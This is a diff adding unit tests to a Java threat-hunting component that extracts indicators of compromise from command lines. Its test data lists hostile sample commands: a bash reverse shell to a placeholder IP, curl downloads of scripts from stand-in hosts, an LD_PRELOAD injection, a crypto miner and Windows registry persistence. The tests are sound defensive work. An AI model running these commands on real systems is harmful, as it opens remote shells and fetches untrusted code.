@@ -1,5 +1,6 @@
 package io.hunt.command.retrohunt;
 
+import static java.util.stream.Collectors.joining;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.hunt.api.host.Platform;
@@ -13,6 +14,7 @@ import java.util.Collections;
 import java.util.List;
 import java.util.Random;
 import java.util.Set;
+import java.util.stream.IntStream;
 import java.util.stream.Stream;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.DisplayNameGeneration;
@@ -65,6 +67,81 @@ class ObservableExtractorTest {
         assertThat(finds(platform, column, seen, type, sought)).isEqualTo(found);
     }
 
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '¦',
+            quoteCharacter = '#',
+            value = {
+                "LINUX¦   curl http://198.51.100.7:8080/a.sh¦             IPV4¦     198.51.100.7¦           true",
+                "LINUX¦   curl http://198.51.100.77/a.sh¦                 IPV4¦     198.51.100.7¦           false",
+                "LINUX¦   bash -i >& /dev/tcp/198.51.100.7/443 0>&1¦      IPV4¦     198.51.100.7¦           true",
+                "LINUX¦   curl http://198.51.100.7:8080/a.sh¦             FILENAME¦ a.sh¦                   true",
+                "LINUX¦   /usr/bin/curl -s https://evil.example.org/x¦    DOMAIN¦   evil.example.org¦       true",
+                "LINUX¦   /usr/bin/curl -s https://evil.example.org/x¦    FILEPATH¦ /usr/bin/curl¦          true",
+                "LINUX¦   /usr/bin/curl -s https://evil.example.org/x¦    FILEPATH¦ //evil.example.org/x¦   false",
+                "LINUX¦   sudo '/opt/My Tools/run'¦                       FILEPATH¦ /opt/My Tools/run¦      true",
+                "LINUX¦   /tmp/xmrig -o pool:3333¦                        FILENAME¦ xmrig¦                  true",
+                "LINUX¦   xmrig -o pool¦                                  FILENAME¦ xmrig¦                  false",
+                "LINUX¦   run the tool. then stop¦                        FILENAME¦ tool¦                   false",
+                "LINUX¦   cd tmp/x && ./payload.py;¦                      FILENAME¦ payload.py¦             true",
+                "LINUX¦   cat notes/plan.docx.¦                           FILENAME¦ plan.docx¦              true",
+                "LINUX¦   cat tmp/x¦                                      FILEPATH¦ /x¦                     false",
+                "LINUX¦   LD_PRELOAD=/lib/evil.so:/lib/b.so id¦           FILEPATH¦ /lib/evil.so¦           true",
+                "LINUX¦   LD_PRELOAD=/lib/evil.so:/lib/b.so id¦           FILEPATH¦ /lib/b.so¦              true",
+                "LINUX¦   rm //opt///Evil/¦                               FILEPATH¦ /opt/Evil¦              false",
+                "LINUX¦   rm /opt///Evil/¦                                FILEPATH¦ /opt/Evil¦              true",
+                "LINUX¦   rm /opt/Evil¦                                   FILEPATH¦ /opt/evil¦              false",
+                "MACOS¦   rm /opt/Evil¦                                   FILEPATH¦ /opt/evil¦              true",
+                "LINUX¦   sh ~/.cache/x¦                                  FILEPATH¦ ~/.cache/x¦             true",
+                "LINUX¦   sh $HOME/.cache/x¦                              FILEPATH¦ $HOME/.cache/x¦         true",
+                "LINUX¦   sh /home/ada/.cache/x¦                          FILEPATH¦ $HOME/.cache/x¦         true",
+                "LINUX¦   echo D41D8CD98F00B204E9800998ECF8427E f¦        MD5¦      d41d8cd98f00b204e9800998ecf8427e¦ true",
+                "LINUX¦   docker pull a@sha256:{0}¦                       SHA256¦   {0}¦                    true",
+                "WINDOWS¦ cmd /c start C:\\Temp\\Evil.EXE -q¦             FILEPATH¦ c:\\temp\\evil.exe¦     true",
+                "WINDOWS¦ cmd /c start C:\\Temp\\Evil.EXE -q¦             FILENAME¦ evil.exe¦               true",
+                "WINDOWS¦ cmd /c start C:\\Temp\\Evil.EXE -q¦             FILENAME¦ c¦                      false",
+                "WINDOWS¦ C:\\Program Files\\My App\\a b.exe -k net¦      FILEPATH¦ C:\\Program Files\\My App\\a b.exe¦ true",
+                "WINDOWS¦ C:\\Program Files\\My App\\a b.exe -k net¦      FILENAME¦ a b.exe¦                true",
+                "WINDOWS¦ C:\\Program Files\\My App\\a b.exe -k net¦      FILENAME¦ b.exe¦                  false",
+                "WINDOWS¦ C:\\Program Files\\My App\\a b.exe -k net¦      FILENAME¦ Program¦                false",
+                "WINDOWS¦ rundll32 \\\\srv\\s\\x.dll,Run¦                 FILEPATH¦ \\\\srv\\s\\x.dll¦        true",
+                "WINDOWS¦ reg add HKLM\\Software\\Evil /v x¦              REGISTRY¦ HKEY_LOCAL_MACHINE\\Software\\evil¦ true",
+                "WINDOWS¦ reg add \"HKCU\\Software\\My App\" /v x¦        REGISTRY¦ HKEY_CURRENT_USER\\Software\\My App¦ true",
+            })
+    void a_value_is_found_within_a_command(
+            Platform platform, String command, IocType type, String sought, boolean found) {
+        String digest = "ab".repeat(32);
+        assertThat(finds(platform, "command", command.replace("{0}", digest), type, sought.replace("{0}", digest)))
+                .isEqualTo(found);
+    }
+
+    @Test
+    void blanks_within_a_path_separate_no_words() {
+        assertThat(finds(Platform.LINUX, "path", "/home/ada/My Files/x y.pdf", IocType.FILENAME, "x y.pdf"))
+                .isTrue();
+        assertThat(finds(Platform.LINUX, "path", "/home/ada/My Files/x y.pdf", IocType.FILENAME, "y.pdf"))
+                .isFalse();
+        assertThat(finds(Platform.LINUX, "path", "/home/ada/My Files/x y.pdf", IocType.FILENAME, "My"))
+                .isFalse();
+    }
+
+    @Test
+    void the_values_of_columns_come_before_those_within_texts() {
+        String many = IntStream.range(0, 400).mapToObj(i -> "/f" + i).collect(joining(" "));
+        var row = List.of(new RowValues.Value("command", many), new RowValues.Value("remote", "198.51.100.7"));
+
+        assertThat(ObservableExtractor.of(Platform.LINUX, row))
+                .hasSize(256)
+                .containsAll(ObservableExtractor.of(IocType.IPV4, "198.51.100.7"));
+    }
+
+    @Test
+    void the_beginning_of_a_long_text_is_read_up_to_a_whole_word() {
+        String text = "/first " + "x ".repeat(2_043) + "evil.example.org";
+        assertThat(RowValues.of("{\"command\": \"" + text + "\"}"))
+                .containsExactly(new RowValues.Value("command", text.substring(0, text.lastIndexOf(' '))));
+    }
+
     @Test
     void of_a_host_nobody_knows_case_matters_unless_the_path_is_one_of_windows() {
         assertThat(finds(null, "path", "/tmp/Evil", IocType.FILENAME, "evil")).isFalse();
@@ -111,7 +188,7 @@ class ObservableExtractorTest {
             var values = List.of(new RowValues.Value(text(random, 3), text));
             Stream.of(Platform.LINUX, Platform.WINDOWS)
                     .forEach(platform ->
-                            assertThat(ObservableExtractor.of(platform, values)).hasSizeLessThanOrEqualTo(70));
+                            assertThat(ObservableExtractor.of(platform, values)).hasSizeLessThanOrEqualTo(256));
         }
     }
 
